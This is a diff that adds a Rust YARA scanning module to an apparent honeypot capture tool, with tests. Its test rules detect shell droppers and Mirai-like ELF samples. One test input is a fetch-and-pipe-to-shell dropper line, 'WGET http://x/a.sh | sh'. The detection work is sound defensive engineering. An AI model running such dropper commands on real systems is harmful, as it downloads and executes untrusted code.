@@ -0,0 +1,265 @@
+//! YARA scanning of the captured streams and files.
+//!
+//! Rule files are compiled by libyara, through the [`yara`] crate, so rules
+//! match as they do with the `yara` command. The modules needing libraries miel
+//! is not linked with (`hash`, `magic`, `cuckoo`, `dotnet`, `dex` and `macho`)
+//! are refused when the rules are loaded.
+//!
+//! Each stream (client and server payloads, stdin, stdout and stderr) and each
+//! uploaded or carved file is scanned on its own, `filesize` being its length.
+
+use std::fmt;
+use std::io;
+use std::path::PathBuf;
+
+use tracing::warn;
+use yara::{CompileErrorLevel, Compiler, Rules};
+
+use super::types::{CaptureArtifacts, RuleMatch};
+
+/// Seconds a single buffer may be scanned for
+const SCAN_TIMEOUT_SECS: i32 = 10;
+
+/// Compiled rules
+#[derive(Default)]
+pub struct RuleSet {
+    rules: Option<Rules>,
+}
+
+impl fmt::Debug for RuleSet {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("RuleSet")
+            .field("rules", &self.len())
+            .finish()
+    }
+}
+
+impl RuleSet {
+    /// Reads and compiles the rule files, in order.
+    ///
+    /// # Errors
+    /// Fails when a file cannot be read, or with [`io::ErrorKind::InvalidData`]
+    /// naming the file and line of the first rule that does not compile.
+    pub fn load(paths: &[PathBuf]) -> io::Result<Self> {
+        let sources = paths
+            .iter()
+            .map(|path| {
+                std::fs::read_to_string(path)
+                    .map(|source| (path.display().to_string(), source))
+                    .map_err(|e| io::Error::new(e.kind(), format!("{}: {}", path.display(), e)))
+            })
+            .collect::<io::Result<Vec<_>>>()?;
+        Self::compile(&sources)
+    }
+
+    /// Compiles the rules of `source`, `name` being used in errors
+    pub fn parse(name: &str, source: &str) -> io::Result<Self> {
+        Self::compile(&[(name.to_string(), source.to_string())])
+    }
+
+    fn compile(sources: &[(String, String)]) -> io::Result<Self> {
+        if sources.is_empty() {
+            return Ok(Self::default());
+        }
+        let mut compiler = Compiler::new().map_err(io::Error::other)?;
+        for (name, source) in sources {
+            compiler = compiler
+                .add_rules_str(source)
+                .map_err(|e| compile_error(name, e))?;
+        }
+        let rules = compiler.compile_rules().map_err(io::Error::other)?;
+        Ok(Self { rules: Some(rules) })
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.len() == 0
+    }
+
+    /// Rules compiled, private ones included
+    pub fn len(&self) -> usize {
+        self.rules
+            .as_ref()
+            .map_or(0, |rules| rules.get_rules().len())
+    }
+
+    /// Public rules matching `data`, which is reported as `target`
+    pub fn scan(&self, target: &str, data: &[u8]) -> Vec<RuleMatch> {
+        let Some(rules) = &self.rules else {
+            return Vec::new();
+        };
+        let matches = match rules.scan_mem(data, SCAN_TIMEOUT_SECS) {
+            Ok(matches) => matches,
+            Err(e) => {
+                warn!("YARA scan of {} failed: {}", target, e);
+                return Vec::new();
+            }
+        };
+        matches
+            .into_iter()
+            .map(|rule| {
+                let mut strings: Vec<String> = rule
+                    .strings
+                    .iter()
+                    .filter(|string| !string.matches.is_empty())
+                    .map(|string| string.identifier.to_string())
+                    .collect();
+                strings.dedup();
+                RuleMatch {
+                    rule: rule.identifier.to_string(),
+                    tags: rule.tags.iter().map(|tag| tag.to_string()).collect(),
+                    target: target.to_string(),
+                    strings,
+                }
+            })
+            .collect()
+    }
+
+    /// Matches of the rules in each stream and file of `artifacts`
+    pub fn scan_artifacts(&self, artifacts: &CaptureArtifacts) -> Vec<RuleMatch> {
+        let mut targets: Vec<(String, &[u8])> = vec![
+            (
+                "client_stream".to_string(),
+                &artifacts.tcp_client_to_container,
+            ),
+            (
+                "server_stream".to_string(),
+                &artifacts.tcp_container_to_client,
+            ),
+            ("stdin".to_string(), artifacts.stdio_stdin.as_bytes()),
+            ("stdout".to_string(), artifacts.stdio_stdout.as_bytes()),
+            ("stderr".to_string(), artifacts.stdio_stderr.as_bytes()),
+        ];
+        for file in &artifacts.uploaded_files {
+            targets.push((format!("upload:{}", file.name), &file.content));
+        }
+        for file in &artifacts.carved_files {
+            targets.push((format!("carved:{}", file.name), &file.content));
+        }
+
+        targets
+            .iter()
+            .filter(|(_, data)| !data.is_empty())
+            .flat_map(|(target, data)| self.scan(target, data))
+            .collect()
+    }
+}
+
+/// First error of a source that does not compile, as `name line N: reason`
+fn compile_error(name: &str, error: yara::Error) -> io::Error {
+    let reason = match &error {
+        yara::Error::Compile(errors) => errors
+            .iter()
+            .find(|e| e.level == CompileErrorLevel::Error)
+            .map(|e| format!("line {}: {}", e.line, e.message)),
+        _ => None,
+    }
+    .unwrap_or_else(|| error.to_string());
+    io::Error::new(io::ErrorKind::InvalidData, format!("{} {}", name, reason))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const RULES: &str = r#"
+        // Shell droppers
+        rule dropper : shell downloader {
+            meta:
+                author = "miel"
+                severity = 3
+            strings:
+                $wget = "wget http" nocase
+                $pipe = /\|\s*(ba)?sh/
+                $busybox = "BUSYBOX" fullword
+            condition:
+                $wget and ($pipe or #busybox >= 2)
+        }
+
+        private rule elf {
+            strings:
+                $magic = { 7F 45 4C 46 }
+            condition:
+                $magic at 0 and uint16(18) == 0x3e
+        }
+
+        rule mirai {
+            strings:
+                $a = { 2F 62 ?? 6E [1-3] 62 75 73 79 ( 62 6F 78 | 42 4F 58 ) }
+                $b = "POST /cdn-cgi/" wide ascii
+                $ = "/dev/watchdog"
+            condition:
+                elf and 2 of them and filesize < 1MB
+        }
+    "#;
+
+    fn elf(rest: &[u8]) -> Vec<u8> {
+        let mut data = b"\x7fELF".to_vec();
+        data.resize(18, 0);
+        data.extend_from_slice(&[0x3e, 0x00]);
+        data.extend_from_slice(rest);
+        data
+    }
+
+    #[test]
+    fn rules_match_text_hex_and_regex_strings() {
+        let rules = RuleSet::parse("test.yar", RULES).unwrap();
+        assert_eq!(rules.len(), 3);
+
+        let hits = rules.scan("stdin", b"cd /tmp; WGET http://x/a.sh | sh");
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].rule, "dropper");
+        assert_eq!(hits[0].tags, ["shell", "downloader"]);
+        assert_eq!(hits[0].target, "stdin");
+        assert_eq!(hits[0].strings, ["$wget", "$pipe"]);
+        // fullword and counts
+        assert!(rules
+            .scan("stdin", b"wget http://x; BUSYBOXES BUSYBOX")
+            .is_empty());
+        assert_eq!(
+            rules.scan("stdin", b"wget http://x; BUSYBOX;BUSYBOX").len(),
+            1
+        );
+
+        let hits = rules.scan("upload:x86", &elf(b"/bin/busyBOX /dev/watchdog"));
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].rule, "mirai");
+        assert_eq!(hits[0].strings, ["$a", "$"]);
+        let wide: Vec<u8> = "POST /cdn-cgi/"
+            .bytes()
+            .flat_map(|b| [b, 0])
+            .chain(b"/dev/watchdog".iter().copied())
+            .collect();
+        assert_eq!(rules.scan("upload:x86", &elf(&wide)).len(), 1);
+        // The private rule must hold
+        assert!(rules
+            .scan("stdout", b"/bin/busybox /dev/watchdog")
+            .is_empty());
+    }
+
+    #[test]
+    fn unsupported_or_invalid_rules_are_refused() {
+        for (source, reason) in [
+            (
+                "import \"magic\"\nrule a { condition: true }",
+                "unknown module",
+            ),
+            ("rule a { condition: $a }", "undefined string"),
+            ("rule a { condition: b }", "undefined identifier"),
+            (
+                "rule a { strings: $a = { 4G } condition: $a }",
+                "syntax error",
+            ),
+            (
+                "rule a { condition: true }\nrule a { condition: true }",
+                "duplicated identifier",
+            ),
+        ] {
+            let error = RuleSet::parse("bad.yar", source).unwrap_err().to_string();
+            assert!(error.contains(reason), "{}: {}", source, error);
+        }
+        let error = RuleSet::parse("bad.yar", "\n\nrule a {\n condition: $b }")
+            .unwrap_err()
+            .to_string();
+        assert!(error.starts_with("bad.yar line 4:"), "{}", error);
+    }
+}